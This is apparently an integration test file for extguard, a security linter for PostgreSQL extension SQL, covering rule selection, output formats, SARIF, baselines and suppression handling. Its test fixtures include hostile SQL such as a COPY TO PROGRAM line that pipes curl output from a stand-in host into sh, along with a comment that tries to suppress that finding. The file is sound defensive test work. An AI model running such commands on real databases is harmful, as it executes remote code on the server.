//! The options a CI job uses, end to end through the `extguard` binary:
//! rule selectors, untrusted input, every format for check and scan, SARIF
//! as GitHub wants it, baselines, output options, excludes and source
//! checkouts.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn run_env(args: &[&str], dir: &Path, env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_extguard"));
    c.args(args).current_dir(dir).stdin(Stdio::null());
    c.env_remove("NO_COLOR");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn run(args: &[&str], dir: &Path) -> Output {
    run_env(args, dir, &[])
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    p
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_str(&out(o)).unwrap_or_else(|e| panic!("{e}: {}{}", out(o), err(o)))
}

fn codes(doc: &serde_json::Value) -> Vec<String> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect()
}

/// The files `extguard CMD ARGS PATH` analysed, from its JSON output.
fn files_analysed(cmd: &str, args: &[&str], path: &str, dir: &Path) -> Vec<String> {
    let mut a = vec![cmd, "--format", "json"];
    a.extend(args);
    a.push(path);
    json(&run(&a, dir))["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap().to_string())
        .collect()
}

/// PS016, PS001 and EG101 in one file.
const MIXED: &str = "SELECT f(1);\nSELECT 1 = 2 FROM s.t;\nCOPY s.t TO PROGRAM 'gzip > /tmp/x';\n";

#[test]
fn rule_selectors_by_prefix() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "m.sql", MIXED);
    let sel = |args: &[&str]| {
        let mut a = vec!["check", "--format", "json"];
        a.extend(args);
        a.push("m.sql");
        let mut c = codes(&json(&run(&a, d.path())));
        c.sort();
        c.dedup();
        c
    };
    assert_eq!(sel(&["--select", "PS"]), ["PS001", "PS016"]);
    assert_eq!(sel(&["--select", "EG1"]), ["EG101"]);
    assert_eq!(
        sel(&["--select", "PS", "--extend-select", "EG101"]),
        ["EG101", "PS001", "PS016"]
    );
    assert_eq!(sel(&["--ignore", "PS"]), ["EG101"]);
    assert_eq!(
        sel(&["--ignore", "PS", "--extend-select", "PS016"]),
        ["EG101", "PS016"]
    );
    assert_eq!(
        sel(&["--select", "PS,EG101", "--ignore", "PS001"]),
        ["EG101", "PS016"]
    );
    // the configuration's select is replaced by --select, extended by --extend-select
    write(d.path(), "extguard.toml", "select = [\"EG\"]\n");
    assert_eq!(sel(&[]), ["EG101"]);
    assert_eq!(sel(&["--select", "PS001"]), ["PS001"]);
    assert_eq!(sel(&["--extend-select", "PS001"]), ["EG101", "PS001"]);
    std::fs::remove_file(d.path().join("extguard.toml")).unwrap();
    for bad in ["PS999", "XY", "EG9"] {
        let o = run(&["check", "--select", bad, "m.sql"], d.path());
        assert_eq!(o.status.code(), Some(2));
        assert!(err(&o).contains(&format!("'{bad}'")), "{}", err(&o));
    }
    let o = run(&["scan", "--ignore", "PS1234", "."], d.path());
    assert_eq!(o.status.code(), Some(2), "{}", err(&o));
}

const HIDDEN: &str = "-- extguard: ignore EG101\nCOPY s.t TO PROGRAM 'curl http://x | sh';\nSELECT pg_catalog.now();\n";

#[test]
fn untrusted_input_cannot_suppress_its_own_findings() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "pkg/evil.sql", HIDDEN);
    // your own code: the comment is obeyed
    let o = run(&["check", "--format", "json", "pkg/evil.sql"], d.path());
    assert_eq!(o.status.code(), Some(0), "{}", out(&o));
    assert!(codes(&json(&o)).is_empty());
    // someone else's: the finding is reported, and so is the comment
    for flag in ["--untrusted", "--no-inline-ignores"] {
        let o = run(
            &["check", flag, "--format", "json", "pkg/evil.sql"],
            d.path(),
        );
        assert_eq!(o.status.code(), Some(1));
        let doc = json(&o);
        assert_eq!(codes(&doc), ["EG007", "EG101"], "{flag}");
        let note = &doc["findings"][0];
        assert_eq!(note["line"], 1);
        let msg = note["message"].as_str().unwrap();
        assert!(
            msg.contains("EG101 (COPY to or from a shell command) at line 2"),
            "{msg}"
        );
    }
    // scan never trusts what it scans
    let o = run(&["scan", "--format", "json", "pkg"], d.path());
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(codes(&json(&o)), ["EG007", "EG101"]);
}

#[test]
fn every_format_for_check_and_scan() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "src/m.sql", MIXED);
    for cmd in ["check", "scan"] {
        for (format, needle) in [
            ("human", "PS016"),
            ("json", "\"fingerprint\""),
            ("pgspot", "PS016: Unqualified function call: f at line 1"),
            ("table", "totals per rule"),
            ("jsonl", "\"install_chain\""),
            ("sarif", "\"partialFingerprints\""),
            ("github", "::warning file=src/m.sql,line=1,col=8,"),
            ("html", "<!DOCTYPE html>"),
        ] {
            let o = run(&[cmd, "--format", format, "src"], d.path());
            assert_eq!(o.status.code(), Some(1), "{cmd} {format}: {}", err(&o));
            assert!(
                out(&o).contains(needle),
                "{cmd} --format {format}:\n{}",
                out(&o)
            );
        }
    }
    // --output-file, --quiet, --statistics
    let o = run(
        &["check", "--format", "sarif", "-o", "r.sarif", "src"],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(out(&o).is_empty());
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d.path().join("r.sarif")).unwrap()).unwrap();
    assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 3);
    let o = run(&["check", "--statistics", "src"], d.path());
    let stats = out(&o);
    assert!(
        stats.contains("      1  EG101  COPY to or from a shell command"),
        "{stats}"
    );
    assert_eq!(stats.lines().count(), 3);
    let o = run(&["check", "--quiet", "src/m.sql"], d.path());
    assert!(!out(&o).contains("file(s):"), "{}", out(&o));
    let o = run(&["check", "src/m.sql"], d.path());
    assert!(
        out(&o).contains("1 file(s): 1 error(s), 2 warning(s)"),
        "{}",
        out(&o)
    );
    // colour: forced, refused, and NO_COLOR
    let esc = |o: &Output| out(o).contains('\u{1b}');
    assert!(esc(&run(
        &["check", "--color", "always", "src/m.sql"],
        d.path()
    )));
    assert!(!esc(&run(
        &["check", "--color", "never", "src/m.sql"],
        d.path()
    )));
    assert!(!esc(&run_env(
        &["check", "src/m.sql"],
        d.path(),
        &[("NO_COLOR", "1")]
    )));
}

#[test]
fn sarif_for_github_code_scanning() {
    let d = tempfile::tempdir().unwrap();
    let repo = d.path().join("repo");
    write(&repo, "sql/m.sql", MIXED);
    let sarif = |dir: &Path, args: &[&str]| {
        let mut a = vec!["check", "--format", "sarif"];
        a.extend(args);
        json(&run(&a, dir))
    };
    // from a subdirectory, relative to --base-dir
    let doc = sarif(&repo.join("sql"), &["--base-dir", "..", "m.sql"]);
    let run0 = &doc["runs"][0];
    let loc = &run0["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"];
    assert_eq!(loc["uri"], "sql/m.sql");
    assert_eq!(loc["uriBaseId"], "SRCROOT");
    let base = run0["originalUriBaseIds"]["SRCROOT"]["uri"]
        .as_str()
        .unwrap();
    assert!(
        base.starts_with("file:///") && base.ends_with("/repo/"),
        "{base}"
    );
    let rule = run0["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == "EG101")
        .unwrap();
    assert_eq!(rule["properties"]["security-severity"], "7.5");
    assert!(rule["helpUri"].as_str().unwrap().starts_with("https://"));
    assert!(rule["properties"]["tags"]
        .as_array()
        .unwrap()
        .contains(&"security".into()));
    // the default base is the git root
    Command::new("git")
        .args(["init", "-q"])
        .current_dir(&repo)
        .status()
        .unwrap();
    let doc = sarif(&repo.join("sql"), &["m.sql"]);
    assert_eq!(
        doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "sql/m.sql"
    );
    // fingerprints survive lines moving, not the line changing
    let prints = |doc: &serde_json::Value| -> Vec<String> {
        doc["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                r["partialFingerprints"]["extguardFindingHash/v1"]
                    .as_str()
                    .unwrap()
                    .to_string()
            })
            .collect()
    };
    let before = prints(&sarif(&repo, &["sql/m.sql"]));
    write(
        &repo,
        "sql/m.sql",
        &format!(
            "-- header\n\n{}",
            MIXED.replace("SELECT 1 = 2", "SELECT  1 =  2")
        ),
    );
    let moved = sarif(&repo, &["sql/m.sql"]);
    assert_eq!(
        moved["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"],
        3
    );
    assert_eq!(prints(&moved), before);
    write(&repo, "sql/m.sql", &MIXED.replace("f(1)", "f(2)"));
    let edited = prints(&sarif(&repo, &["sql/m.sql"]));
    assert_ne!(edited[0], before[0]);
    assert_eq!(edited[1..], before[1..]);
}

#[test]
fn sarif_keeps_at_most_25000_results_and_says_so() {
    let d = tempfile::tempdir().unwrap();
    let mut sql = String::from("COPY s.t TO PROGRAM 'x';\n");
    for i in 0..25_100 {
        sql.push_str(&format!("SELECT f{i}();\n"));
    }
    write(d.path(), "big.sql", &sql);
    let o = run(&["check", "--format", "sarif", "big.sql"], d.path());
    assert_eq!(o.status.code(), Some(1));
    assert!(err(&o).contains("101 result(s) left out"), "{}", err(&o));
    let doc = json(&o);
    let r = &doc["runs"][0];
    assert_eq!(r["results"].as_array().unwrap().len(), 25_000);
    assert_eq!(r["properties"]["resultsLeftOut"], 101);
    // the most severe are kept
    assert_eq!(r["results"][0]["ruleId"], "EG101");
    let note = r["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
        .as_str()
        .unwrap();
    assert!(note.contains("101 of 25101 results left out"), "{note}");
}

#[test]
fn baselines_report_only_new_findings_and_list_fixed_ones() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "m.sql", MIXED);
    let o = run(
        &["check", "--write-baseline", "base.json", "m.sql"],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let base: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d.path().join("base.json")).unwrap())
            .unwrap();
    assert_eq!(base["findings"].as_array().unwrap().len(), 3);
    // lines moved and another edit elsewhere: nothing new
    write(
        d.path(),
        "m.sql",
        &format!("-- moved\n\nSELECT pg_catalog.now();\n{MIXED}"),
    );
    let o = run(
        &[
            "check",
            "--baseline",
            "base.json",
            "--format",
            "json",
            "m.sql",
        ],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(0), "{}", out(&o));
    assert!(codes(&json(&o)).is_empty());
    // one fixed, one new
    write(
        d.path(),
        "m.sql",
        &MIXED.replace("SELECT f(1);", "SELECT g(1);"),
    );
    let o = run(
        &[
            "check",
            "--baseline",
            "base.json",
            "--format",
            "json",
            "m.sql",
        ],
        d.path(),
    );
    assert_eq!(o.status.code(), Some(1));
    let doc = json(&o);
    assert_eq!(codes(&doc), ["PS016"]);
    assert_eq!(doc["findings"][0]["object"], "g");
    assert!(
        err(&o).contains("fixed since the baseline: m.sql:1: PS016 f"),
        "{}",
        err(&o)
    );
    // scan takes baselines too
    let o = run(
        &["scan", "--baseline", "base.json", "--format", "json", "."],
        d.path(),
    );
    assert!(
        err(&o).contains("not a baseline file") || o.status.code() == Some(1),
        "{}",
        err(&o)
    );
    let o = run(&["check", "--baseline", "missing.json", "m.sql"], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("missing.json"));
}

#[test]
fn excludes_and_paths_without_sql() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "ext/sql/a.sql", "SELECT f();\n");
    write(d.path(), "ext/test/sql/t.sql", "SELECT g();\n");
    write(d.path(), "ext/sql/old/o.sql", "SELECT h();\n");
    let files = |args: &[&str]| files_analysed("check", args, "ext", d.path());
    assert_eq!(files(&[]), ["ext/sql/a.sql", "ext/sql/old/o.sql"]);
    assert_eq!(
        files(&["--extend-exclude", "sql/old/**"]),
        ["ext/sql/a.sql"]
    );
    assert_eq!(
        files(&["--exclude", "old"]),
        ["ext/sql/a.sql", "ext/test/sql/t.sql"]
    );
    // a file named on the command line is analysed whatever the excludes
    let o = run(&["check", "ext/test/sql/t.sql"], d.path());
    assert_eq!(o.status.code(), Some(1));
    // nothing to analyse is a usage error, not a clean pass
    std::fs::create_dir(d.path().join("empty")).unwrap();
    let o = run(&["check", "empty"], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("empty: no SQL files here"), "{}", err(&o));
    let o = run(&["check", ""], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("a value is required for '[PATHS]...'"),
        "{}",
        err(&o)
    );
}

#[test]
fn source_checkouts_with_scripts_in_sql_and_generated_install_scripts() {
    let d = tempfile::tempdir().unwrap();
    // PGXS layout: control at the root, DATA in sql/
    write(
        d.path(),
        "a/ext.control",
        "default_version = '1.1'\nschema = ext\n",
    );
    write(
        d.path(),
        "a/Makefile",
        "EXTENSION = ext\nDATA = sql/ext--1.0.sql sql/ext--1.0--1.1.sql\n",
    );
    write(d.path(), "a/sql/ext--1.0.sql", "CREATE FUNCTION @extschema@.f() RETURNS int LANGUAGE sql SET search_path = pg_catalog, pg_temp AS 'SELECT 1';\n");
    write(
        d.path(),
        "a/sql/ext--1.0--1.1.sql",
        "SELECT @extschema@.f();\n",
    );
    let o = run(&["check", "--format", "json", "a"], d.path());
    let doc = json(&o);
    assert_eq!(o.status.code(), Some(0), "{}", out(&o));
    assert_eq!(doc["extensions"][0]["name"], "ext");
    assert_eq!(
        doc["extensions"][0]["install_chain"],
        serde_json::json!(["a/sql/ext--1.0.sql", "a/sql/ext--1.0--1.1.sql"])
    );
    // the install script is made by the build from pieces: info, not EG005
    write(d.path(), "b/ext.control", "default_version = '2.0'\n");
    write(
        d.path(),
        "b/Makefile",
        "sql/ext--2.0.sql: sql/functions/*.sql\n\tcat $^ > $@\n",
    );
    write(d.path(), "b/sql/functions/f.sql", "CREATE FUNCTION s.f() RETURNS int LANGUAGE sql SET search_path = pg_catalog, pg_temp AS 'SELECT 1';\n");
    write(d.path(), "b/sql/ext--1.0--2.0.sql", "SELECT 1;\n");
    let o = run(&["check", "--format", "json", "b"], d.path());
    let doc = json(&o);
    assert_eq!(codes(&doc), ["EG008"], "{}", out(&o));
    assert_eq!(doc["findings"][0]["severity"], "info");
    assert_eq!(o.status.code(), Some(0));
    assert!(doc["files"]
        .as_array()
        .unwrap()
        .contains(&"b/sql/functions/f.sql".into()));
    // the build copies sql/NAME.sql to the install script (pgvector)
    write(d.path(), "c/vec.control", "default_version = '0.8'\n");
    write(
        d.path(),
        "c/Makefile",
        "sql/vec--0.8.sql: sql/vec.sql\n\tcp $< $@\n",
    );
    write(d.path(), "c/sql/vec.sql", "CREATE TYPE @extschema@.v;\nCREATE FUNCTION @extschema@.f(@extschema@.v) RETURNS int LANGUAGE sql SET search_path = pg_catalog, pg_temp AS 'SELECT 1';\n");
    let o = run(&["check", "--format", "json", "c"], d.path());
    let doc = json(&o);
    assert_eq!(codes(&doc), ["EG008"], "{}", out(&o));
    assert_eq!(
        doc["extensions"][0]["install_chain"],
        serde_json::json!(["c/sql/vec.sql"])
    );
    assert!(doc["findings"][0]["message"]
        .as_str()
        .unwrap()
        .contains("c/sql/vec.sql is analysed in its place"));
    // an installed extension directory (no build file) keeps EG005
    std::fs::remove_file(d.path().join("b/Makefile")).unwrap();
    let o = run(&["check", "--format", "json", "b"], d.path());
    assert_eq!(codes(&json(&o)), ["EG005"]);
}

/// `check` and `scan` share one driver and one human reporter: a scan
/// shows each finding with its source lines, under its extension, exactly
/// as a check of the same tree does.
#[test]
fn scan_human_output_has_source_context_grouped_per_extension() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "reg/ext/ext.control", "default_version = '1.0'\n");
    write(
        d.path(),
        "reg/ext/ext--1.0.sql",
        "-- one\nCREATE SCHEMA IF NOT EXISTS sx;\n",
    );
    write(d.path(), "reg/loose.sql", "SELECT 1 = 2 FROM s.t;\n");
    let human = |cmd: &str| {
        let o = run(
            &[cmd, "--format", "human", "--color", "never", "reg"],
            d.path(),
        );
        assert_eq!(o.status.code(), Some(1), "{}", err(&o));
        out(&o)
    };
    let scan = human("scan");
    for needle in [
        "=== ext 1.0 (reg/ext/ext.control): 1 error(s), 0 warning(s)\n",
        "error[PS010]: Unsafe schema creation",
        "  ┌─ reg/ext/ext--1.0.sql:2:22\n",
        "2 │ CREATE SCHEMA IF NOT EXISTS sx;\n  │                      ^^^^^^ sx\n",
        "=== (unpackaged) (reg): 0 error(s), 1 warning(s)\n",
        "1 │ SELECT 1 = 2 FROM s.t;\n",
        "3 file(s): 1 error(s), 1 warning(s), 0 parse error(s)\n",
    ] {
        assert!(scan.contains(needle), "{needle:?} not in\n{scan}");
    }
    // the same rendering as check (both start with the summary table)
    assert_eq!(scan, human("check"));
    // findings come in the order of their groups
    assert!(scan.find("=== ext").unwrap() < scan.find("=== (unpackaged)").unwrap());
}

/// Every analysis option of check works for scan; the one that does not
/// make sense there is refused by name.
#[test]
fn scan_honours_check_options_and_refuses_append_and_stdin() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "reg/a/x.sql", "SELECT f(1);\n");
    write(d.path(), "reg/test/t.sql", "SELECT g(1);\n");
    write(d.path(), "reg/vendor/v.sql", "SELECT h(1);\n");
    let files = |args: &[&str]| files_analysed("scan", args, "reg", d.path());
    // a package is scanned whole by default: a directory named test may be installed
    assert_eq!(
        files(&[]),
        ["reg/a/x.sql", "reg/test/t.sql", "reg/vendor/v.sql"]
    );
    assert_eq!(
        files(&["--exclude", "vendor"]),
        ["reg/a/x.sql", "reg/test/t.sql"]
    );
    assert_eq!(
        files(&[
            "--extend-exclude",
            "test",
            "--extend-exclude",
            "vendor/*.sql"
        ]),
        ["reg/a/x.sql"]
    );
    // options check has: selectors, PL/pgSQL switch, languages, severities
    let doc = json(&run(
        &["scan", "--format", "json", "--select", "PS017", "reg"],
        d.path(),
    ));
    assert!(codes(&doc).is_empty());
    // excluding everything: nothing to scan is an input error
    let o = run(&["scan", "--exclude", "*.sql", "reg"], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("reg: no SQL files here (after --exclude: *.sql)"),
        "{}",
        err(&o)
    );
    let o = run(&["scan", "--append", "reg"], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(err(&o).contains("--append"), "{}", err(&o));
    let o = run(&["scan", "--format", "json", "-", "reg"], d.path());
    assert_eq!(o.status.code(), Some(2));
    assert!(
        err(&o).contains("-: a scan does not read stdin"),
        "{}",
        err(&o)
    );
    assert_eq!(json(&o)["files"].as_array().unwrap().len(), 3);
    // a scan also takes SQL files by name
    let o = run(&["scan", "--format", "json", "reg/a/x.sql"], d.path());
    assert_eq!(codes(&json(&o)), ["PS016"]);
}

/// Each rule's helpUri is its section of docs/rules.md (whose headings a
/// unit test checks against the rules), under a base that can be changed.
#[test]
fn sarif_help_uris_point_at_each_rules_section() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "m.sql", MIXED);
    let uris = |args: &[&str], env: &[(&str, &str)]| -> Vec<(String, String)> {
        let mut a = vec!["check", "--format", "sarif"];
        a.extend(args);
        a.push("m.sql");
        let o = run_env(&a, d.path(), env);
        let doc = json(&o);
        doc["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                (
                    r["id"].as_str().unwrap().to_string(),
                    r["helpUri"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let docs =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/rules.md"))
            .unwrap();
    let default = uris(&[], &[]);
    assert!(default.len() > 40);
    for (id, uri) in &default {
        assert_eq!(
            uri,
            &format!(
                "https://github.com/extguard/extguard/blob/main/docs/rules.md#{}",
                id.to_lowercase()
            )
        );
        assert!(docs.contains(&format!("\n## {id}\n")), "{id}");
    }
    let env = uris(
        &[],
        &[("EXTGUARD_HELP_URI_BASE", "https://example.org/r.md")],
    );
    assert_eq!(
        env[0],
        ("PS001".into(), "https://example.org/r.md#ps001".into())
    );
    let flag = uris(
        &["--help-uri-base", "https://x.test/d"],
        &[("EXTGUARD_HELP_URI_BASE", "https://example.org/r.md")],
    );
    assert_eq!(flag[0].1, "https://x.test/d#ps001");
}

/// A finding far to the right on a long line: the snippet keeps the part
/// of the line around it (`column_offset` characters left out, shown as
/// `…`), and the human format puts the caret under it with its real column.
#[test]
fn long_lines_are_shown_around_the_finding() {
    let d = tempfile::tempdir().unwrap();
    let sql = format!("SELECT {}f(1);\n", "1 AS c, ".repeat(40));
    write(d.path(), "long.sql", &sql);
    let o = run(&["check", "--color", "never", "long.sql"], d.path());
    let text = out(&o);
    assert!(text.contains("┌─ long.sql:1:328\n"), "{text}");
    let lines: Vec<&str> = text.lines().collect();
    let at = lines.iter().position(|l| l.starts_with("1 │ …")).unwrap();
    let caret = lines[at + 1].chars().position(|c| c == '^').unwrap();
    let source: Vec<char> = lines[at].chars().collect();
    assert_eq!(
        source[caret..caret + 4].iter().collect::<String>(),
        "f(1)",
        "{text}"
    );
    let doc: serde_json::Value = serde_json::from_str(
        out(&run(&["scan", "--format", "jsonl", "long.sql"], d.path()))
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    let snippet = &doc["files"][0]["findings"][0]["snippet"];
    assert_eq!(snippet["column_offset"], 287);
    assert!(snippet["lines"][0].as_str().unwrap().starts_with("…"));
}
